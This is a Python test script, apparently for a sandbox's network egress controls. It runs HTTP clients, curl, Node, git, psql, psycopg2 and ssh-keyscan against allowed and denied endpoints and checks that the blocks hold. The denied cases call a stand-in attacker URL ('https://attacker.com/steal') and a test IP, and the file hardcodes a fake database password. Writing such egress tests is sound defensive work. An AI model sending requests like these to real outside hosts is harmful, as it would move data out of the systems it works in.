"""Egress compatibility suite: every client, allowed and denied, with and without proxy variables.

Prints `RESULT <client> <allowed|denied> <proxy|direct> <ok|fail> <ms> <detail>` per attempt.
An allowed attempt is `ok` when the client got the fake server's answer; a denied one is `ok`
when the client failed (the caller checks that it failed fast and that the audit log has it).
"""
import json
import os
import subprocess
import sys
import time

PROXY_VARS = ("HTTP_PROXY", "HTTPS_PROXY", "NO_PROXY", "http_proxy", "https_proxy", "no_proxy", "ALL_PROXY", "all_proxy")
ALLOWED = "https://api.openai.com/v1/models"
DENIED = "https://attacker.com/steal"

PY_URLLIB = """
import sys, urllib.request
data = b'{"q":1}' if sys.argv[2] == 'post' else None
with urllib.request.urlopen(urllib.request.Request(sys.argv[1], data=data), timeout=8) as r:
    print(r.read().decode())
"""
PY_REQUESTS = """
import sys, requests
r = requests.post(sys.argv[1], json={"q": 1}, timeout=8) if sys.argv[2] == 'post' else requests.get(sys.argv[1], timeout=8)
print(r.text)
"""
PY_HTTPX = """
import sys, httpx
with httpx.Client(timeout=8) as c:
    r = c.post(sys.argv[1], json={"q": 1}) if sys.argv[2] == 'post' else c.get(sys.argv[1])
print(r.text)
"""
PY_HTTPX_ASYNC = """
import sys, asyncio, httpx
async def main():
    async with httpx.AsyncClient(timeout=8) as c:
        r = await (c.post(sys.argv[1], json={"q": 1}) if sys.argv[2] == 'post' else c.get(sys.argv[1]))
        print(r.text)
asyncio.run(main())
"""
PY_AIOHTTP = """
import sys, asyncio, aiohttp
async def main():
    # trust_env: aiohttp reads the proxy variables only when asked to.
    async with aiohttp.ClientSession(trust_env=True, timeout=aiohttp.ClientTimeout(total=8)) as s:
        m = s.post(sys.argv[1], json={"q": 1}) if sys.argv[2] == 'post' else s.get(sys.argv[1])
        async with m as r:
            print(await r.text())
asyncio.run(main())
"""
NODE_FETCH = """
const [url, method] = process.argv.slice(1);
fetch(url, method === 'post' ? { method: 'POST', body: '{"q":1}' } : {}).then(r => r.text()).then(t => console.log(t), e => { console.error(String(e.cause || e)); process.exit(1); });
"""
NODE_HTTPS = """
const https = require('https');
const [url, method] = process.argv.slice(1);
const req = https.request(url, { method: method === 'post' ? 'POST' : 'GET', timeout: 8000 }, (r) => { let b = ''; r.on('data', (c) => b += c); r.on('end', () => console.log(b)); });
req.on('error', (e) => { console.error(String(e)); process.exit(1); });
req.end(method === 'post' ? '{"q":1}' : undefined);
"""
PY_PSYCOPG2 = """
import sys, psycopg2
c = psycopg2.connect(host="db.internal", port=int(sys.argv[1]), dbname="app", user="agent", password="agent-pw", connect_timeout=8)
cur = c.cursor(); cur.execute("select name from items order by id"); print(",".join(r[0] for r in cur.fetchall()))
"""


def http_clients(url, method):
    return {
        "urllib": ["python3", "-c", PY_URLLIB, url, method],
        "requests": ["python3", "-c", PY_REQUESTS, url, method],
        "httpx": ["python3", "-c", PY_HTTPX, url, method],
        "httpx-async": ["python3", "-c", PY_HTTPX_ASYNC, url, method],
        "aiohttp": ["python3", "-c", PY_AIOHTTP, url, method],
        "curl": ["curl", "-sS", "--max-time", "8", "-X", method.upper()] + (["-d", '{"q":1}'] if method == "post" else []) + [url],
        "node-fetch": ["node", "-e", NODE_FETCH, url, method],
        "node-https": ["node", "-e", NODE_HTTPS, url, method],
    }


def attempt(client, expect, mode, argv, check, need_exit0=True):
    env = dict(os.environ)
    if mode == "direct":
        for k in PROXY_VARS:
            env.pop(k, None)
    t = time.monotonic()
    try:
        p = subprocess.run(argv, env=env, capture_output=True, text=True, timeout=30)
        out, err, code = p.stdout, p.stderr, p.returncode
    except subprocess.TimeoutExpired:
        out, err, code = "", "timeout", 124
    ms = round((time.monotonic() - t) * 1000)
    worked = (code == 0 or not need_exit0) and check(out, err)
    ok = worked if expect == "allowed" else not worked
    detail = (out.strip() if worked else err.strip().splitlines()[-1] if err.strip() else out.strip())[:160]
    print("RESULT %s %s %s %s %d %s" % (client, expect, mode, "ok" if ok else "fail", ms, json.dumps(detail)), flush=True)


def main():
    served = lambda want: (lambda out, err: want in out)
    for mode in ("proxy", "direct"):
        for method in ("get", "post"):
            for name, argv in http_clients(ALLOWED, method).items():
                attempt("%s-%s" % (name, method), "allowed", mode, argv, served('"host":"api.openai.com"'))
        for name, argv in http_clients(DENIED, "get").items():
            attempt(name, "denied", mode, argv, served('"host"'))
        attempt("git-ls-remote", "allowed", mode, ["git", "ls-remote", "https://git.example.com/repo.git"], served("refs/heads/main"))
        attempt("git-ls-remote", "denied", mode, ["git", "ls-remote", "https://attacker.com/repo.git"], served("refs/heads/main"))
        psql = lambda port: ["psql", "postgresql://agent@db.internal:%d/app?sslmode=disable" % port, "-Atc", "select name from items order by id"]
        attempt("psql", "allowed", mode, psql(5432), served("first\nsecond"))
        attempt("psql", "denied", mode, psql(5433), served("first"))
        attempt("psycopg2", "allowed", mode, ["python3", "-c", PY_PSYCOPG2, "5432"], served("first,second"))
        attempt("psycopg2", "denied", mode, ["python3", "-c", PY_PSYCOPG2, "5433"], served("first"))
        # ssh-keyscan (OpenSSH): banner and key exchange. `ssh` itself refuses to start without a
        # passwd entry for the sandbox's uid, which a read-only image cannot have.
        ssh = lambda host: ["ssh-keyscan", "-T", "8", "-t", "ed25519", host]
        banner = lambda out, err: "SSH-2.0-dropbear" in err and "ssh-ed25519" in out
        attempt("ssh-banner", "allowed", mode, ssh("git.example.com"), banner, need_exit0=False)
        attempt("ssh-banner", "denied", mode, ssh("198.51.100.66"), banner, need_exit0=False)
    print("DONE", flush=True)


main()
